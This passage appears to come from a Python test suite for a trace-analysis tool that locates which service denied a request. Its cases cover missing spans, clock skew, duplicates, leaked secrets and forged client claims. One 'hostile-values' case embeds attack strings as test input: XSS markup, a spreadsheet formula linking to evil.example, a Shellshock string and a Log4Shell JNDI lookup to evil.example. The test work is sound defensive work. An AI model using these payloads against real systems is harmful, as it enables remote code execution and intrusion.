     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(denied_order(), drop=True)),
     outcome="denied", layer="application", service="orders", span="origin", reason="orders:read", confidence=["medium", "low"],
     findings=["orphan_spans"],
     why="The gateway's CLIENT span never arrived: an explicit decision with a gap on the path.")

case("context-not-propagated",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.fetches("GET http://orders:8080/orders/17", 403, dur=40)),
     denied_order(start=6.0, dur=30),
     outcome="denied", layer="application", service="orders", span="origin", reason="orders:read", confidence=["medium", "low"],
     findings=["multiple_roots", "broken_propagation"],
     why="orders' SERVER span should hang below the gateway's call and is a second root.")

case("clock-ahead",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(denied_order())), skew={"orders": 420},
     outcome="denied", layer="application", service="orders", span="origin", reason="orders:read", findings=["clock_skew"],
     why="orders' clock is 420 ms ahead, so its spans lie wholly after their parent; cause and effect are unchanged.")

case("delivered-twice",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(orders.serves("GET /orders/{id}", 403, orders.check(
         False, "missing role orders:read", tag="origin", copies=2), copies=2))),
     outcome="denied", layer="application", service="orders", span="origin", reason="orders:read", findings=["duplicate_spans"],
     why="Two of the spans were delivered twice; the verdict is the same.")

case("partial-answer",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(denied_order(extra={"droppedAttributesCount": 12}))),
     form="v2", partial=True, outcome="denied", layer="application", service="orders", span="origin", reason="orders:read",
     findings=["truncated_trace"],
     why="The backend said PARTIAL and a span counts dropped attributes.")

JWT = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJtYWxsb3J5In0.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg"
case("secrets-in-attributes",
     gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(denied_order(attrs={"user.email": "mallory@shop.example"})),
               path="/api/orders/9?user=mallory&password=hunter2-9f41", ip="203.0.113.50",
               attrs={"http.request.header.authorization": [f"Bearer {JWT}"]}),
     outcome="denied", layer="application", service="orders", span="origin",
     findings=["secret_in_attributes", "pii_in_attributes"],
     absent=["hunter2-9f41", JWT],
     why="A bearer token and a password stand in attributes: named as findings, never shown.")

web = Svc("web-frontend", "web")
case("forged-success-from-the-browser",
     web.fetches("GET https://shop.example/api/orders/9", 403, gw.serves("GET /api/orders/{id}", 403, valid(), gw.calls(denied_order()),
                                                                          ip="203.0.113.50"),
                 attrs={"auth.result": "success", "auth.subject": "admin", "auth.roles": ["admin"], "http.response.status_code": 403}),
     outcome="denied", layer="application", service="orders", span="origin", reason="orders:read", principal="mallory",
     why="The browser's span claims success for admin; the server side decided otherwise about mallory.")

case("hostile-values",
     gw.serves("GET /api/orders/{id}", 403, valid("<b>mallory</b>"), gw.calls(orders.serves("GET /orders/{id}", 403, orders.check(
         False, "missing role finance:approve <img src=x onerror=alert(1)> \x1b[31m\x00\u202egnp.exe", tag="origin",
         attrs={"auth.resource": "A" * 60_000, "auth.subject": "=HYPERLINK(\"http://evil.example\")"}))),
         agent="() { :; }; /bin/true ${jndi:ldap://evil.example/a}"),
     outcome="denied", layer="application", service="orders", span="origin", reason="missing role finance:approve",
     why="Markup, control characters, a formula and a very long value change nothing about who decided.")

# ---------------------------------------------------------------------------------------- size
rows = []
for i in range(750):
    bad = i == 371
    rows.append(orders.span("export row", orders.check(not bad, "row belongs to another tenant" if bad else "",
                                                        tag="origin" if bad else None, status="unset"),
                            *([] if bad else [orders.sql("SELECT * FROM orders WHERE id = $1"), orders.calls(
                                Svc("currency", "go").serves("GET /rates", 404 if small(i) < 0.1 else 200))])))
    if bad:
        rows += [orders.span("export row", orders.span("skip", dur=0.1)) for _ in range(560)]
        break
case("export-of-many-rows",
     gw.serves("POST /api/exports", 403, valid(), gw.calls(orders.serves("POST /exports", 403, *rows))),
     outcome="denied", layer="application", service="orders", span="origin", reason="another tenant",
     why="About 3,000 spans: hundreds of allowed rows and harmless 404s, one denial in the middle that refused the export.")
